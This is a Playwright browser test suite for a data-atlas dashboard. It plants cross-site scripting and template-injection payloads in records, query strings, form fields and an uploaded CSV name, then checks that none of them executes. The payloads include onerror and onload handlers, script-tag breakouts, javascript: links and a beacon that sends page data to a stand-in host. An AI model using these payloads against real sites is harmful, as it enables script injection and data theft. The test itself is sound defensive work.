"""Records are data: whatever they say is shown to the letter and nothing of it runs."""

import shutil
import sqlite3
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from dashboard.domain.access import Role
from dashboard.exports.package import write_package
from dashboard.importers.package import DataPackage, read_package
from dashboard.settings import Settings, starter_path
from dashboard.store.drafts.drafts import Proposal
from dashboard.store.people.people import Meeting
from dashboard.store.people.tokens import NewToken
from dashboard.store.trail.operations import Operation
from dashboard.workflows.editing.dossier_form import DossierForm
from dashboard.workflows.package.start import open_atlas

pytestmark = pytest.mark.browser

CANARY = "canary.invalid"
STRIKE = f"window.struck=1;alert(1);new Image().src='http://{CANARY}/'+this"
SITE, EVENT, ACTOR, SOURCE = "st-hostile", "ev-hostile", "ac-hostile", "so-hostile"
ALONE = "ev-alone"  # named by nothing, so that it can be deleted
SITE_NAME = f'<img src=x onerror="{STRIKE}">'
NOTES = "</script><script>window.struck=2;alert(2)</script> ${window.struck=3} {{7*7}} {% raw %}"
TITLE = f"![beacon](http://{CANARY}/beacon.png) [link](javascript:window.struck=4) **bold**"
PLACE = f"<svg/onload={STRIKE.replace(' ', '/**/')}> `${{alert(5)}}`"
ACTOR_NAME = f"<iframe srcdoc='<script>parent.struck=6</script>'></iframe>|<http://{CANARY}/>".replace(
    "|", " "
)
PUBLISHER = (
    "<style>@import url(http://canary.invalid/x.css);</style>:material/bug_report: $\\LaTeX$ :red[red]"
)
SOURCE_TITLE = "</a><a href=javascript:window.struck=7>press</a> [x]: http://canary.invalid"
QUOTE = "</textarea><body onload=window.struck=8> ' \" \\ \u202e &lt;b&gt;"
SCRIPT_ADDRESS = "javascript:window.struck=9"
# Streamlit's page sets one variable inline and looks whether it may use WebAssembly; our policy refuses both.
STREAMLITS_OWN = Counter({"script-src-elem inline": 1, "script-src wasm-eval": 1})
LISTEN = """
globalThis.refusals = [];
addEventListener("securitypolicyviolation", event =>
    refusals.push(event.violatedDirective + " " + event.blockedURI));
"""


def hostile_package() -> DataPackage:
    """The atlas's own package with one site, event, actor and source that mean harm."""
    package = read_package(starter_path("data"))
    tables = {name: list(rows) for name, rows in package.tables.items()}

    def first(table: str) -> Any:
        return tables[table][0]

    site = next(s for s in tables["sites"] if s.id == "st-bluebird-benslimane")
    event = next(e for e in tables["events"] if e.id == "ev-2026-jmc3")
    where = next(x for x in tables["locations"] if x.record_id == event.id)
    role = event.actors[0].role
    tables["actors"].append(
        replace(first("actors"), id=ACTOR, name=ACTOR_NAME, names=(TITLE,), parent=(), notes=NOTES)
    )
    tables["sources"].append(
        replace(
            first("sources"),
            id=SOURCE,
            publisher=PUBLISHER,
            title=SOURCE_TITLE,
            url="http://canary.invalid/)![x](http://canary.invalid/y.png",
            archived_at="",
        )
    )
    tables["sites"].append(
        replace(site, id=SITE, name=SITE_NAME, names=(TITLE,), notes=NOTES, operators=(ACTOR,))
    )
    tables["events"].append(
        replace(
            event,
            id=EVENT,
            title=TITLE,
            summary=NOTES,
            actors=(type(event.actors[0])(ACTOR, role),),
            sites=(SITE,),
            related=(),
        )
    )
    tables["events"].append(replace(event, id=ALONE, title=TITLE, sites=(), related=()))
    for record_id, lat in ((SITE, -40.0), (EVENT, -42.0)):
        tables["locations"].append(
            replace(
                where,
                id=f"lo-{record_id}",
                record_id=record_id,
                place_as_written=PLACE,
                place_id="",
                country="",
                lat=lat,
                lon=-120.0,
                method="hand",
                reason=NOTES,
            )
        )
    for record_id in (SITE, EVENT, ACTOR, ALONE):
        for stance in ("supports", "contradicts"):
            tables["citations"].append(
                replace(
                    first("citations"),
                    id=f"ci-{record_id}-{stance}",
                    record_id=record_id,
                    source_id=SOURCE,
                    field="kind" if stance == "contradicts" else "",
                    value_as_stated=QUOTE if stance == "contradicts" else "",
                    quote=QUOTE,
                    locator=TITLE,
                    stance=stance,
                )
            )
    status = next(s for s in tables["site_status"] if s.site_id == site.id)
    tables["site_status"].append(
        replace(
            status,
            id="ss-hostile",
            site_id=SITE,
            citation_id=f"ci-{SITE}-supports",
            date=type(status.date).parse("2010/.."),
            note=NOTES,
        )
    )
    return DataPackage.of(tables, package.descriptor)


def _act_hostile(settings: Settings) -> None:
    """Let somebody with a hostile name propose, delete and make tokens, all with hostile words."""
    store, _ = open_atlas(settings)

    def operation(action: str, subject: str, why: str, person_id: str = "") -> Operation:
        return Operation.new(SITE_NAME, action, subject, why, person_id=person_id)

    meeting = Meeting(PUBLISHER, TITLE, ACTOR_NAME, SOURCE_TITLE)
    person = store.people.meet(meeting, Role.CONTRIBUTOR, operation("sign in", TITLE, NOTES))
    scopes = frozenset({"read"})
    store.tokens.create(NewToken(person.id, SITE_NAME, scopes), operation("create token", TITLE, NOTES))
    dossier, revision = store.repository.dossier(SITE)
    changed = replace(
        dossier,
        record=replace(dossier.record, name=TITLE, notes=QUOTE, names=(SITE_NAME.replace("|", "/"),)),
        locations=tuple(replace(row, reason=QUOTE, lat=-41.0) for row in dossier.locations),
    )
    form = DossierForm.of(dossier)
    proposal = Proposal(
        SITE, "sites", revision, changed, form.to_text(), origin={"kind": TITLE, NOTES: QUOTE}
    )
    draft = store.drafts.create(proposal, operation("save draft", SITE, "", person.id))
    store.drafts.submit(draft.id, draft.version, operation("submit draft", SITE, NOTES, person.id))
    store.repository.delete_record(ALONE, 1, operation("delete record", ALONE, NOTES))
    store.close()


@pytest.fixture(scope="module")
def hostile_server(
    start_server: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory, gazetteer_file: Path
) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    package = folder / "package"
    write_package(hostile_package(), package)
    shutil.copy(starter_path("data") / "LICENSE.md", package)
    settings = Settings(data_folder=folder / "data", cache_folder=folder / "cache", package=package)
    store, _ = open_atlas(settings)
    store.close()
    _act_hostile(settings)
    # No package may carry such an address; a database of somebody else's may.
    connection = sqlite3.connect(folder / "data" / "atlas.sqlite")
    with connection:
        changed = connection.execute("UPDATE sources SET archived_at = ?", (SCRIPT_ADDRESS,)).rowcount
        connection.execute("UPDATE sources SET url = ? WHERE id != ?", (SCRIPT_ADDRESS, SOURCE))
    connection.close()
    assert changed > 1
    with start_server(folder, package=package, gazetteer=gazetteer_file) as address:
        yield address


class Watch:
    """Sees everything by which injected text could show that it ran."""

    def __init__(self, atlas: Any) -> None:
        self.atlas = atlas
        self.dialogs: list[str] = []
        atlas.page.on("dialog", self._dialog)
        atlas.page.add_init_script(LISTEN)

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def assert_quiet(self) -> None:
        """See that nothing of it runs, once all that would have been asked for has been."""
        self.atlas.drawn()
        self.atlas.settle()
        for frame in self.atlas.page.frames:
            assert frame.evaluate("() => globalThis.struck ?? 0") == 0, frame.url
            refusals = Counter(frame.evaluate("() => globalThis.refusals ?? []"))
            assert refusals - STREAMLITS_OWN == Counter(), frame.url
        assert self.dialogs == []
        assert [url for url in self.atlas.requests if CANARY in url] == []
        assert [line for line in self.atlas.console if CANARY in line or "struck" in line] == []
        attributes = """() => [...document.querySelectorAll("*")].flatMap(node => [...node.attributes])
            .filter(a => a.name.startsWith("on") || /^\\s*javascript:/i.test(a.value))
            .map(a => a.name + a.value)"""
        for frame in self.atlas.page.frames:
            assert frame.evaluate(attributes) == []


@pytest.fixture
def watched(new_atlas: Callable[..., Any], hostile_server: str) -> tuple[Any, Watch]:
    atlas = new_atlas(hostile_server, fresh=True)
    return atlas, Watch(atlas)


def test_the_watch_would_see_it(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    atlas.open("/about")
    watch.assert_quiet()
    atlas.page.evaluate(
        f"() => {{ {STRIKE}; document.body.append(document.createRange().createContextualFragment("
        "'<p onclick=x></p>')); }"
    )
    with pytest.raises(AssertionError):
        watch.assert_quiet()
    assert watch.dialogs == ["1"]
    # Told by our policy, or by a request that it let through, a moment after.
    refused = "() => refusals.some(r => r.includes('canary'))"
    assert atlas.wait_until(
        lambda: any(CANARY in url for url in atlas.requests) or atlas.page.evaluate(refused)
    )


def test_map_hover_and_card(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    atlas.open("/?view=-41,-120,5")
    for record_id, name in ((SITE, SITE_NAME), (EVENT, TITLE)):
        mark = atlas.mark(record_id)
        atlas.page.mouse.move(mark["x"] + 60, mark["y"])
        atlas.hover(lambda mark=mark: mark, name)
        tip = atlas.frame.locator(".atlas-tip")
        expect(tip).to_contain_text(name)
        expect(tip).to_contain_text(PLACE)
        atlas.page.mouse.click(mark["x"], mark["y"])
        for text in (name, PLACE, QUOTE, PUBLISHER, SOURCE_TITLE, ACTOR_NAME, "sources disagree"):
            expect(atlas.card).to_contain_text(text)
        expect(atlas.card).to_contain_text(NOTES)
        atlas.drawn()
        assert atlas.card.locator("img, script, svg[onload], style").count() == 0
    watch.assert_quiet()


def test_table_and_lists(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    atlas.open(f"/?q={EVENT}")
    grid = atlas.page.get_by_test_id("stDataFrame").locator("[role='grid']")
    expect(grid).to_contain_text(TITLE)
    expect(grid).to_contain_text(PLACE)
    # The welcome list names the newest events as buttons.
    expect(atlas.page.get_by_role("button").filter(has_text=TITLE)).to_be_visible()
    watch.assert_quiet()


@pytest.mark.parametrize(
    ("path", "texts"),
    [
        (f"/events?record={EVENT}", (TITLE, NOTES, PLACE, QUOTE, PUBLISHER)),
        (f"/sites?record={SITE}", (SITE_NAME, TITLE, NOTES, PLACE, QUOTE, PUBLISHER)),
        (f"/actors?record={ACTOR}", (ACTOR_NAME, TITLE, NOTES, QUOTE, SITE_NAME)),
    ],
    ids=["events", "sites", "actors"],
)
def test_cards_of_the_other_pages(watched: tuple[Any, Watch], path: str, texts: tuple[str, ...]) -> None:
    atlas, watch = watched
    atlas.open(path)
    for text in texts:
        expect(atlas.card).to_contain_text(text)
    watch.assert_quiet()


def test_the_sources_page_links_no_script(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    atlas.open("/sources")
    grid = atlas.page.get_by_test_id("stDataFrame").locator("[role='grid']")
    expect(grid).to_be_attached()
    atlas.page.get_by_label("Search sources").fill("canary")
    atlas.page.get_by_label("Search sources").press("Enter")
    expect(grid).to_have_attribute("aria-rowcount", "2")
    expect(grid).to_contain_text(PUBLISHER)
    expect(grid).to_contain_text(SOURCE_TITLE)
    assert SCRIPT_ADDRESS not in grid.inner_text()
    watch.assert_quiet()
    for name in ("api/records/" + SITE, "api/records/" + ACTOR):
        answer = atlas.page.request.get(f"{atlas.server}/{name}")
        assert answer.headers["content-type"].startswith("application/json")
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_addresses_that_mean_harm(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    nasty = "%3Cimg%20src%3Dx%20onerror%3Dwindow.struck%3D1%3E%24%7Balert(1)%7D"
    keys = ("record", "q", "view", "from", "to", "basemap", "type", "country", "actor", "list", "unknown")
    atlas.open("/?" + "&".join(f"{key}={nasty}" for key in keys))
    said = atlas.page.locator(".st-key-ignored")
    expect(said).to_contain_text("record=<img src=x onerror=window.struck=1>")
    expect(said).to_contain_text("is not understood and was ignored")
    watch.assert_quiet()
    document = atlas.page.request.get(f"{atlas.server}/atlas/map?basemap={nasty}&theme={nasty}").text()
    assert "<img" not in document


def _grid(atlas: Any) -> Any:
    return atlas.page.get_by_test_id("stDataFrame").locator("[role='grid']").first


def test_the_edit_page(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    for path, label, texts in (
        (f"/edit?record={SITE}", "Name", {"Notes": NOTES}),
        (f"/edit?record={EVENT}", "Title", {"Summary": NOTES}),
        (f"/edit?record={ACTOR}", "Name", {"Notes": NOTES}),
    ):
        atlas.open(path)
        expect(atlas.page.get_by_label(label, exact=True)).to_be_visible()
        for field, text in texts.items():
            expect(atlas.page.get_by_label(field, exact=True)).to_have_value(text)
        parts = atlas.page.get_by_test_id("stButtonGroup").first.get_by_role("radio")
        for number in range(1, parts.count()):
            parts.nth(number).click()
            expect(parts.nth(number)).to_be_checked()
            atlas.drawn()
        opened = atlas.page.get_by_test_id("stExpander").filter(has_text=PUBLISHER[:20]).first
        opened.click()
        expect(atlas.page.get_by_label("Quote, word for word").first).to_have_value(QUOTE)
        watch.assert_quiet()


def test_the_review_page(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    atlas.open("/review")
    card = atlas.page.locator(".st-key-review_draft_card")
    for text in (TITLE, SITE_NAME, NOTES, QUOTE):
        expect(card).to_contain_text(text)
    expect(_grid(atlas)).to_contain_text(TITLE)
    atlas.drawn()
    assert card.locator("img, script, svg[onload], style").count() == 0
    atlas.page.get_by_role("tab", name="Deleted records").click()
    expect(atlas.page.locator(f".st-key-deleted_{ALONE}")).to_contain_text(TITLE)
    expect(atlas.page.locator(f".st-key-deleted_{ALONE}")).to_contain_text(NOTES)
    watch.assert_quiet()


@pytest.mark.parametrize(
    ("part", "texts"),
    [
        ("People", (ACTOR_NAME,)),  # the grid draws the columns that are in sight
        ("Tokens", (SITE_NAME, ACTOR_NAME)),
        ("Audit trail", (SITE_NAME, TITLE)),
    ],
)
def test_the_operations_page(watched: tuple[Any, Watch], part: str, texts: tuple[str, ...]) -> None:
    atlas, watch = watched
    atlas.open(f"/operations?part={part.replace(' ', '%20')}")
    expect(_grid(atlas)).to_be_attached()
    for text in texts:
        expect(_grid(atlas)).to_contain_text(text)
    watch.assert_quiet()


def test_the_articles_page(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    facts = (
        f"On 7 January 2026 Morocco and {ACTOR_NAME} signed an agreement on drones in Agadir {NOTES}.",
        f"On 8 January 2026 Austria and the {SITE_NAME} company signed an agreement in Linz {QUOTE}.",
    )
    atlas.open("/articles")
    atlas.page.get_by_label("Text of the article").fill("\n\n".join((TITLE, *facts, PLACE)))
    atlas.page.get_by_label("Title").fill(TITLE)
    atlas.page.get_by_label("Publisher").fill(PUBLISHER)
    atlas.page.get_by_role("textbox", name="Published").fill("2026-01-09")
    atlas.page.get_by_role("textbox", name="Published").press("Tab")
    atlas.drawn()
    atlas.page.get_by_role("button", name="Find what it tells").click()
    text = atlas.page.locator(".ar-text")
    for words in (TITLE, ACTOR_NAME, SITE_NAME, PLACE):
        expect(text).to_contain_text(words)
    atlas.drawn()
    assert text.locator("img, script, svg, style, iframe, a").count() == 0
    card = atlas.page.locator(".st-key-article_card")
    expect(card).to_contain_text(ACTOR_NAME[:20])
    watch.assert_quiet()
    atlas.press("j")
    expect(card).to_contain_text(SITE_NAME[:20])
    watch.assert_quiet()
    for path in ("/articles", "/review"):
        atlas.open(path)
        expect(_grid(atlas)).to_contain_text(TITLE if path == "/articles" else "Agreement", ignore_case=True)
        watch.assert_quiet()


def test_an_uploaded_table_with_its_name_headers_and_cells(watched: tuple[Any, Watch]) -> None:
    atlas, watch = watched
    rows = [[SITE_NAME, TITLE], [PLACE, "Morocco"], ["Rabat", NOTES]]
    table = "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    atlas.open("/geocoding")
    atlas.page.get_by_role("radio", name="Upload").click()
    expect(atlas.page.locator("input[type=file]")).to_be_attached()
    atlas.drawn()
    name = "<img src=x onerror=window.struck=10> ![x](http://canary.invalid).csv"
    file = {"name": name, "mimeType": "text/csv", "buffer": table.encode()}
    atlas.page.locator("input[type=file]").set_input_files(file)
    expect(atlas.page.get_by_text("2 names in")).to_contain_text(name)
    chosen = atlas.page.get_by_role("combobox", name="Column of names")
    expect(chosen).to_have_value(SITE_NAME)
    watch.assert_quiet()
    atlas.page.get_by_role("button", name="Geocode").click()
    expect(_grid(atlas)).to_contain_text("Rabat")
    expect(_grid(atlas)).to_contain_text(PLACE[:20])
    watch.assert_quiet()
